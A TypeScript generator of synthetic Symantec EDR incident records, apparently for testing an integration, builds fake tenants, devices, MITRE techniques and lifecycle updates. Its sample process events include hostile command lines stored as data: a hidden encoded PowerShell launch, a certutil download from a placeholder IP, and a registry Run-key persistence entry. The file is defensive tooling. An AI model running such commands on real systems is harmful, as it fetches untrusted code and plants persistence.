import { Prng } from './prng.ts';

/** One incident record (a lifecycle version) as the API returns it. */
export type IncidentRecord = Record<string, unknown> & {
  incident_uid: string;
  time: number;
  type_id: number;
  modified: string;
  created: string;
  state_id: number;
};

export interface GenerateOptions {
  seed: number;
  /** Number of incidents (each has 1-3 lifecycle records). */
  incidents: number;
  /** Creations are spread over [from, to] (epoch ms). */
  from: number;
  to: number;
  /** Lifecycle records (updates, closures) never get a `time` after this (epoch ms). */
  latestRecordTime?: number;
  /** Probability an incident gets later update/closure records (default 0.6). */
  updateRate?: number;
  /** First ref_incident_uid (default 100000). */
  firstRef?: number;
}

const HOUR = 3_600_000;

/** `2023-04-26T21:46:10.400+00:00`, the format of incident `created`/`modified`. */
export function isoOffset(ms: number): string {
  return new Date(ms).toISOString().replace('Z', '+00:00');
}

const CONCLUSIONS = [
  'Suspicious Activity',
  'Malicious File',
  'Malicious Activity',
  'Targeted Malware',
  'Dual Use Tool',
  'Malware',
  'Hacktool',
  'Breach',
  'Network Threat',
  'Potential Threat',
  'Targeted Attack',
] as const;

const TECHNIQUES = [
  {
    technique_uid: 'T1218',
    technique_name: 'Signed Binary Proxy Execution',
    tactic_uids: [5],
    tactic: 'Defense Evasion',
  },
  {
    technique_uid: 'T1140',
    technique_name: 'Deobfuscate/Decode Files or Information',
    tactic_uids: [5],
    tactic: 'Defense Evasion',
  },
  {
    technique_uid: 'T1059',
    technique_name: 'Command and Scripting Interpreter',
    sub_technique_uid: 'T1059.001',
    sub_technique_name: 'PowerShell',
    tactic_uids: [2],
    tactic: 'Execution',
  },
  {
    technique_uid: 'T1569',
    technique_name: 'System Services',
    sub_technique_uid: 'T1569.002',
    sub_technique_name: 'Service Execution',
    tactic_uids: [2],
    tactic: 'Execution',
  },
  {
    technique_uid: 'T1003',
    technique_name: 'OS Credential Dumping',
    sub_technique_uid: 'T1003.001',
    sub_technique_name: 'LSASS Memory',
    tactic_uids: [6],
    tactic: 'Credential Access',
  },
  {
    technique_uid: 'T1547',
    technique_name: 'Boot or Logon Autostart Execution',
    sub_technique_uid: 'T1547.001',
    sub_technique_name: 'Registry Run Keys / Startup Folder',
    tactic_uids: [3, 4],
    tactic: 'Persistence',
  },
  {
    technique_uid: 'T1021',
    technique_name: 'Remote Services',
    sub_technique_uid: 'T1021.002',
    sub_technique_name: 'SMB/Windows Admin Shares',
    tactic_uids: [8],
    tactic: 'Lateral Movement',
  },
  {
    technique_uid: 'T1486',
    technique_name: 'Data Encrypted for Impact',
    tactic_uids: [40],
    tactic: 'Impact',
  },
] as const;

const RULES: Record<string, { rule: string; remediation: string }> = {
  'Advanced Analytics': {
    rule: 'Advanced Attack Technique',
    remediation:
      "Investigate further activity at the endpoint by downloading a full dump of the endpoint's recorded data. Give particular attention to activities performed by cmd.exe.",
  },
  Sandbox: {
    rule: 'Critical Cynic Detections',
    remediation: 'You can isolate the endpoint(s), remove the file(s) and/or clean the system(s).',
  },
  'Threat Hunter': {
    rule: 'Threat Hunter Escalation',
    remediation: 'Follow the Threat Hunter recommendations attached to the incident.',
  },
  'Targeted Attack Analytics': {
    rule: 'Targeted Attack Analytics',
    remediation: 'Isolate the endpoint and reset the credentials of the accounts used on it.',
  },
  'Blocked Threat': {
    rule: 'High Severity Blocked Threat',
    remediation: 'Scan the endpoint and confirm the threat was removed.',
  },
};
const DETECTION_TYPES = Object.keys(RULES);

const OS = [
  { name: 'Windows 10 Professional Edition', type_id: 100, ver: '10.0.19045' },
  { name: 'Windows 11 Enterprise Edition', type_id: 100, ver: '10.0.22631' },
  { name: 'Windows Server 2019 Datacenter Edition', type_id: 100, ver: '10.0.17763' },
  { name: 'Ubuntu 22.04', type_id: 200, ver: '5.15.0' },
  { name: 'macOS 14.4', type_id: 400, ver: '14.4' },
] as const;
const DOMAINS = ['evilcorp.com', 'corp.example.com', 'ad.contoso.local', 'WORKGROUP'] as const;
const USERS = ['SYSTEM', 'edradmin', 'alice', 'bob', 'svc_backup', 'jdoe', 'Administrator'] as const;
const FILES = [
  'Chrome.exe',
  'invoice_0423.pdf.exe',
  'mimikatz.exe',
  'psexec.exe',
  'update.ps1',
  'svchost32.exe',
  'payload.dll',
] as const;
const SCRIPTS = [
  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'cmd.exe /c whoami /all',
  'rundll32.exe payload.dll,EntryPoint',
  'certutil.exe -urlcache -split -f http://198.51.100.7/a.bin a.bin',
  'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\update.exe',
] as const;

interface Device {
  device_uid: string;
  device_name: string;
  device_ip: string;
  device_os_name: string;
  device_os_type_id: number;
  device_os_ver: string;
  device_domain: string;
  device_group: string;
}

/** The fixed parts of one simulated tenant. */
export interface Tenant {
  customer_uid: string;
  domain_uid: string;
  devices: Device[];
}

export function makeTenant(prng: Prng): Tenant {
  const devices: Device[] = [];
  for (let i = 0; i < 25; i++) {
    const os = prng.pick(OS);
    devices.push({
      device_uid: prng.b64id(),
      device_name:
        i < 3
          ? `Victim-${i + 1}`
          : `${prng.pick(['WS', 'LAPTOP', 'SRV', 'DESKTOP'])}-${prng.hex(6).toUpperCase()}`,
      device_ip: `172.${prng.int(16, 31)}.${prng.int(0, 255)}.${prng.int(1, 254)}`,
      device_os_name: os.name,
      device_os_type_id: os.type_id,
      device_os_ver: os.ver,
      device_domain: prng.pick(DOMAINS),
      device_group: prng.pick(['Default', 'Servers', 'Finance', 'Engineering']),
    });
  }
  return { customer_uid: `TEST-${prng.b64id()}`, domain_uid: `TEST-${prng.b64id()}`, devices };
}

/** A v1 time-uuid-like id, as in event `uuid` values (`8031:77c48db0-e475-11ed-d50e-0000633d5a56`). */
function timeUuid(prng: Prng, ms: number): string {
  const low = ((ms * 10_000) >>> 0).toString(16).padStart(8, '0');
  return `${low}-${prng.hex(4)}-11ed-${prng.hex(4)}-0000${prng.hex(8)}`;
}

function isoEvent(ms: number, withMillis: boolean): string {
  const iso = new Date(ms).toISOString();
  return withMillis ? iso : iso.replace(/\.\d{3}Z$/, 'Z');
}

function baseEvent(
  prng: Prng,
  tenant: Tenant,
  device: Device,
  typeId: number,
  type: string,
  time: number,
  user: string,
) {
  // Rarely without millis: real payloads have them (XSOAR had to add a fallback parser).
  const millis = !prng.chance(0.05);
  return {
    type_id: typeId,
    type,
    device_uid: device.device_uid,
    device_name: device.device_name,
    device_ip: device.device_ip,
    device_os_name: device.device_os_name,
    device_os_type_id: device.device_os_type_id,
    device_os_ver: device.device_os_ver,
    device_domain: device.device_domain,
    device_group: device.device_group,
    device_time: isoEvent(time, millis),
    user_name: user,
    user: { name: user, domain: device.device_domain },
    customer_uid: tenant.customer_uid,
    domain_uid: tenant.domain_uid,
    product_uid: 'E3A8F790-52A2-4BE3-87D7-93698CDDD021',
    product_name: 'Symantec Endpoint Detection and Response',
    product_ver: '14.3.9513.7000',
    feature_uid: '3F3DC574-02A7-11E9-8EB2-F2801F1B9FD1',
    feature_name: 'Endpoint Detection and Response',
    feature_ver: '1.0',
    version: '1.0',
    ref_uid: prng.uuid(),
    event_data_type: 'sep',
    time: isoEvent(time, millis),
    timezone: 0,
    log_time: isoEvent(time + prng.int(200, 5000), true),
    uuid: `${typeId}:${timeUuid(prng, time)}`,
    log_name: `event_service_${prng.int(1, 9)}_t2_${new Date(time).toISOString().slice(0, 10)}`,
  };
}

function fileOf(prng: Prng, name: string, user: string) {
  const dir = prng.pick([
    `C:\\Users\\${user}\\Desktop`,
    `C:\\Users\\${user}\\Downloads`,
    'C:\\Windows\\Temp',
    'C:\\ProgramData',
  ]);
  return {
    path: `${dir}\\${name}`,
    name,
    sha2: prng.hex(64),
    md5: prng.hex(32),
    size: prng.int(2_000, 9_000_000),
    type_id: 1,
  };
}

function makeEvents(prng: Prng, tenant: Tenant, detection: string, at: number, severity: number) {
  const device = prng.pick(tenant.devices);
  const user = prng.pick(USERS);
  const count = prng.int(1, 4);
  const events: Record<string, unknown>[] = [];
  const techniques = [prng.pick(TECHNIQUES), prng.pick(TECHNIQUES)];
  for (let i = 0; i < count; i++) {
    const time = at - prng.int(2_000, 30 * 60_000);
    const kind =
      i === 0 && detection === 'Sandbox'
        ? 'sandbox'
        : prng.weighted(['sandbox', 'process', 'file', 'detection'], [2, 4, 2, 2]);
    if (kind === 'sandbox') {
      const name = prng.pick(FILES);
      events.push({
        ...baseEvent(prng, tenant, device, 8031, 'sandbox_file_detection', time, user),
        id: 14,
        category_id: 1,
        severity_id: severity,
        message: `Sandbox result for the '${name}' file is malicious.`,
        status_id: 1,
        status_detail: 'File is malicious',
        command_uid: prng.uuid(),
        edr_event_data_type: 'malicious',
        threat: {
          provider: 'Cynic',
          type_id: 5,
          name: 'Threat Detected By Cynic',
          risk_id: prng.pick([100, 200, 300]),
          id: 0,
        },
        file: fileOf(prng, name, user),
      });
    } else if (kind === 'process') {
      const cmd = prng.pick(SCRIPTS);
      const exe = cmd.split(' ')[0] ?? 'cmd.exe';
      const t = prng.pick(techniques);
      events.push({
        ...baseEvent(prng, tenant, device, 8001, 'event_query_results', time, user),
        id: prng.pick([1, 2, 4]),
        category_id: 5,
        severity_id: prng.pick([1, 2, 3]),
        message: `Process ${exe} launched`,
        feature_name: 'DETECTION_RESPONSE',
        edr_event_data_type: 'process',
        actor: {
          pid: prng.int(400, 20_000),
          uid: prng.uuid(),
          cmd_line: 'C:\\Windows\\explorer.exe',
          file: fileOf(prng, 'explorer.exe', user),
          user: { name: user },
        },
        process: {
          pid: prng.int(400, 20_000),
          uid: prng.uuid(),
          cmd_line: cmd,
          file: { ...fileOf(prng, exe, user), path: `C:\\Windows\\System32\\${exe}` },
          user: { name: user },
        },
        attacks: [
          {
            technique_uid: t.technique_uid,
            technique_name: t.technique_name,
            ...('sub_technique_uid' in t
              ? { sub_technique_uid: t.sub_technique_uid, sub_technique_name: t.sub_technique_name }
              : {}),
            tactic_uids: [...t.tactic_uids],
          },
        ],
        edr_enriched_data: [
          {
            rule_name: `eSOC-${t.technique_uid}`,
            rule_description: t.technique_name,
            category_name: t.tactic,
          },
        ],
      });
    } else if (kind === 'file') {
      const name = prng.pick(FILES);
      events.push({
        ...baseEvent(prng, tenant, device, 8003, 'event_query_results', time, user),
        id: prng.pick([1, 11, 12, 14]),
        category_id: 5,
        severity_id: prng.pick([2, 3, 4]),
        message: `File ${name} created`,
        feature_name: 'DETECTION_RESPONSE',
        edr_event_data_type: 'file',
        file: fileOf(prng, name, user),
        actor: {
          pid: prng.int(400, 20_000),
          file: fileOf(prng, 'powershell.exe', user),
          user: { name: user },
        },
      });
    } else {
      const name = prng.pick(FILES);
      events.push({
        ...baseEvent(prng, tenant, device, 8027, 'process_detection', time, user),
        id: prng.pick([1, 12, 14]),
        category_id: 1,
        severity_id: severity,
        message: `Threat ${name} detected`,
        status_id: 1,
        edr_event_data_type: 'malicious',
        threat: {
          provider: prng.pick(['SONAR', 'AV', 'Cynic']),
          type_id: prng.pick([1, 2, 3, 5, 6]),
          name: `Trojan.Gen.${prng.int(1, 9)}`,
          risk_id: prng.pick([100, 200, 300, 400, 500]),
          id: prng.int(1, 99999),
        },
        file: fileOf(prng, name, user),
      });
    }
  }
  const message = `${device.device_name}:${techniques.map((t) => t.technique_name).join(', ')}`;
  return { events, device, message };
}

/**
 * Generate the lifecycle records of `incidents` incidents, sorted by `time`. Deterministic per seed:
 * creation (8075, state New), optional updates (8076, In Progress / On Hold) and closure (8077,
 * Resolved / Closed with a resolution), each with its own `time` and `modified`.
 */
export function generateIncidents(options: GenerateOptions): IncidentRecord[] {
  const prng = new Prng(options.seed);
  const tenant = makeTenant(prng);
  const latest = options.latestRecordTime ?? Number.POSITIVE_INFINITY;
  const updateRate = options.updateRate ?? 0.6;
  const firstRef = options.firstRef ?? 100_000;
  const out: IncidentRecord[] = [];
  const span = Math.max(0, options.to - options.from);
  const creations = Array.from(
    { length: options.incidents },
    () => options.from + Math.floor(prng.next() * (span + 1)),
  ).sort((a, b) => a - b);
  creations.forEach((created, i) => {
    const uid = prng.uuid();
    const detection = prng.weighted(DETECTION_TYPES, [5, 3, 1, 1, 1]);
    const rule = RULES[detection] ?? { rule: 'Advanced Attack Technique', remediation: '' };
    const severity = prng.weighted([1, 2, 3, 4, 5, 6], [1, 1, 6, 8, 5, 1]);
    const priority = prng.weighted([0, 1, 2, 3, 4], [1, 2, 4, 4, 3]);
    const conclusion = detection === 'Sandbox' ? 'Malicious File' : prng.pick(CONCLUSIONS);
    const { events, message } = makeEvents(
      prng,
      tenant,
      detection,
      created,
      Math.min(5, Math.max(3, severity)),
    );
    // Alternate the event_id conventions seen in public samples (type_id*1000+id vs type_id*10000+id).
    const eightDigit = prng.chance(0.5);
    const base = {
      customer_uid: tenant.customer_uid,
      domain_uid: tenant.domain_uid,
      incident_uid: uid,
      conclusion,
      remediation: rule.remediation,
      priority_id: priority,
      category_id: 1,
      product_uid: '31B0C880-0229-49E8-94C5-48D56B1BD7B9',
      product_name: 'Symantec Integrated Cyber Defense Manager',
      ref_incident_uid: firstRef + i,
      rule_name: rule.rule,
      created: isoOffset(created),
      incident_url: `https://sep.securitycloud.symantec.com/v2/incidents/incidentListing/${uid}/details`,
      message:
        detection === 'Sandbox'
          ? `Sandbox detection: ${String((events[0]?.file as { name?: string })?.name ?? 'file')}`
          : message,
      version: '1.0',
      detection_type: detection,
      severity_id: severity,
      suspected_breach: prng.chance(0.3) ? 'Yes' : 'No',
      id: 4,
      events,
    };
    const record = (
      typeId: 8075 | 8076 | 8077,
      time: number,
      state: number,
      extra: Record<string, unknown> = {},
    ): IncidentRecord => ({
      ...base,
      type: typeId === 8075 ? 'INCIDENT_CREATION' : typeId === 8076 ? 'INCIDENT_UPDATE' : 'INCIDENT_CLOSURE',
      type_id: typeId,
      event_id: eightDigit ? typeId * 10_000 + 4 : typeId * 1000 + 4,
      state_id: state,
      modified: isoOffset(time),
      device_time: time,
      time,
      ...extra,
    });
    const initialState = prng.chance(0.03) ? 0 : 1;
    out.push(record(8075, created, initialState, { resolution_id: 1 }));
    if (!prng.chance(updateRate)) return;
    let t = created + prng.int(60_000, 3 * HOUR);
    if (t > latest) return;
    out.push(
      record(
        8076,
        t,
        prng.chance(0.8) ? 2 : 3,
        prng.chance(0.3) ? { message: prng.pick(TECHNIQUES).technique_name } : {},
      ),
    );
    if (prng.chance(0.3)) {
      const t2 = t + prng.int(60_000, 2 * HOUR);
      if (t2 <= latest) {
        t = t2;
        out.push(record(8076, t, 2, { priority_id: Math.min(4, priority + 1) }));
      }
    }
    if (prng.chance(0.6)) {
      const t3 = t + prng.int(60_000, 6 * HOUR);
      if (t3 <= latest) {
        const state = prng.chance(0.6) ? 4 : 5;
        out.push(record(8077, t3, state, { resolution_id: prng.int(1, 6) }));
      }
    }
  });
  out.sort((a, b) => a.time - b.time || a.incident_uid.localeCompare(b.incident_uid));
  return out;
}
